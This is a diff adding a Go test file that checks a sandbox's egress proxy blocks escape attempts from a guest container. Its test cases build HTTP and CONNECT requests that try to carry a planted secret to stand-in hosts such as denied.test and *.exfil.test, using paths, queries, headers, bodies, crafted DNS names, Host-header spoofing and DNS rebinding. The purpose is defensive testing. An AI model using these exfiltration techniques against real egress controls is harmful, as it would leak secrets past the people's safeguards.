@@ -1,0 +1,123 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package escape
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"botbottle.dev/bottle-operator/api/v1alpha1"
+	"botbottle.dev/bottle-operator/test/story"
+)
+
+// standing are the rules that hold all the time: spoofed names borrow from
+// them, and a name that is allowed leads to the LAN.
+//
+// Names that lead to metadata, loopback, link-local addresses or the gateway
+// are not here: no rule opens these, so that nothing could be taken away.
+// internal/egress and internal/bundleproxy test that none does.
+var standing = []v1alpha1.EgressRule{"allowed.test", "allowed.test:80", "rebind-lan.test:80"}
+
+// ruleAttack is an attack that a rule would let through. Marker stands for the
+// planted secret in what is sent to the bundle.
+type ruleAttack struct {
+	name string
+	// guard is the rule whose absence stops it.
+	guard v1alpha1.EgressRule
+	// sent is what the bundle gets. After a CONNECT that was let through, the
+	// secret follows.
+	sent string
+}
+
+const marker = "MARKER"
+
+var ruleAttacks = []ruleAttack{
+	{"a host that is not allowed, CONNECT", "denied.test:443", connect("denied.test:443", "denied.test:443")},
+	{"a host that is not allowed, plain HTTP", "denied.test:80", get("http://denied.test/"+marker, "denied.test")},
+	{"a host that is not allowed, CONNECT with an allowed Host header", "denied.test:443", connect("denied.test:443", "allowed.test:443")},
+	{"a host that is not allowed, plain HTTP with an allowed Host header", "denied.test:80", get("http://denied.test/"+marker, "allowed.test")},
+	{"a port that is not allowed of a host that is", "allowed.test:8080", get("http://allowed.test:8080/"+marker, "allowed.test")},
+	{"an IP literal, CONNECT", "203.0.113.10:443", connect("203.0.113.10:443", "203.0.113.10:443")},
+	{"an IP literal, CONNECT with an allowed Host header", "203.0.113.10:443", connect("203.0.113.10:443", "allowed.test:443")},
+	{"an IP literal, plain HTTP", "203.0.113.10:80", get("http://203.0.113.10/"+marker, "203.0.113.10")},
+	{"an IP literal, plain HTTP with an allowed Host header", "203.0.113.10:80", get("http://203.0.113.10/"+marker, "allowed.test")},
+	{"exfiltration by path", "denied.test:80", get("http://denied.test/a/"+marker+"/b", "denied.test")},
+	{"exfiltration by query", "denied.test:80", get("http://denied.test/?q="+marker, "denied.test")},
+	{"exfiltration by header", "denied.test:80", get("http://denied.test/", "denied.test", "X-Data: "+marker, "Cookie: c="+marker)},
+	{"exfiltration by body", "denied.test:80", post("http://denied.test/", "denied.test", marker)},
+	{"exfiltration by a crafted DNS name, CONNECT", "*.exfil.test:443", connect(marker+".exfil.test:443", marker+".exfil.test:443")},
+	{"exfiltration by a crafted DNS name, plain HTTP", "*.exfil.test:80", get("http://"+marker+".exfil.test/", marker+".exfil.test")},
+	{"DNS rebinding: an allowed name that leads to the LAN", "10.77.0.1:80", get("http://rebind-lan.test/"+marker, "rebind-lan.test")},
+}
+
+func request(line, host, body string, headers ...string) string {
+	head := append([]string{line + " HTTP/1.1", "Host: " + host, "Connection: close"}, headers...)
+	return strings.Join(head, `\r\n`) + `\r\n\r\n` + body
+}
+
+func get(url, host string, headers ...string) string {
+	return request("GET "+url, host, "", headers...)
+}
+func connect(authority, host string) string { return request("CONNECT "+authority, host, "") }
+func post(url, host, body string) string {
+	// The marker stands for something longer.
+	return request("POST "+url, host, body, fmt.Sprintf("Content-Length: %d", len(plant(body, "00000000", 0))))
+}
+
+// plant puts a secret in the marker's place.
+func plant(text, run string, i int) string {
+	return strings.ReplaceAll(text, marker, fmt.Sprintf("s3cr3t%sn%02dz", run, i))
+}
+
+func testRules(t *testing.T, s *site) {
+	t.Run("control, allowed", func(t *testing.T) {
+		guards := standing
+		seen := map[v1alpha1.EgressRule]bool{}
+		for _, a := range ruleAttacks {
+			if !seen[a.guard] {
+				guards = append(guards, a.guard)
+			}
+			seen[a.guard] = true
+		}
+		for i, o := range s.tryRules(t, guards) {
+			if !o.reached {
+				t.Errorf("control: %s, with the rule %s: not reached, so that its absence is not tested; it was told %q", ruleAttacks[i].name, ruleAttacks[i].guard, o.told)
+			}
+		}
+	})
+	t.Run("denied", func(t *testing.T) {
+		for i, o := range s.tryRules(t, standing) {
+			a := ruleAttacks[i]
+			if o.reached {
+				t.Errorf("ESCAPE: %s, from the guest of Bottle %s: reached: %s; want it stopped by the absence of the bundle rule %s", a.name, s.ruled.Name, o.how, a.guard)
+			} else if status, _, _ := strings.Cut(o.told, "\n"); !strings.Contains(status, " 403 ") {
+				t.Errorf("%s: the bundle answered %q, want 403", a.name, o.told)
+			}
+		}
+	})
+}
+
+// tryRules puts rules in force, runs all attacks in the guest and returns how
+// they ended. The planted secret tells: where it is seen, the attack succeeded.
+func (s *site) tryRules(t *testing.T, rules []v1alpha1.EgressRule) []outcome {
+	t.Helper()
+	s.Change(t, s.ruled, func() { s.ruled.Spec.Egress = &v1alpha1.Egress{Allow: rules} })
+	want := fmt.Sprintf(`"event":"rules","rules":%d,`, len(rules))
+	s.Eventually(t, fmt.Sprintf("the bundle to have read %d rules", len(rules)), func() (string, bool) {
+		last := s.Exec(t, node, "sh", "-c", `docker logs "$1" 2>/dev/null | grep '"event":"rules"' | tail -n 1`, "sh", story.ID(s.ruled))
+		return last, strings.Contains(last, want)
+	})
+	run := nonce()
+	batch := make([]attempt, len(ruleAttacks))
+	for i, a := range ruleAttacks {
+		secret := plant(marker, run, i)
+		sh := fmt.Sprintf("proxy '%s'", plant(a.sent, run, i))
+		if strings.HasPrefix(a.sent, "CONNECT ") {
+			sh = fmt.Sprintf("tunnel '%s' '%s'", plant(a.sent, run, i), get("/"+secret, "x"))
+		}
+		batch[i] = attempt{name: a.name, marker: secret, sh: sh, answered: "the outside world"}
+	}
+	told := parse(t, s.Guest(t, s.ruled, "sh", "-c", script(batch, s.patience, bundleIP(s.ruled))), len(batch))
+	return judge(batch, told, s.world(t))
+}
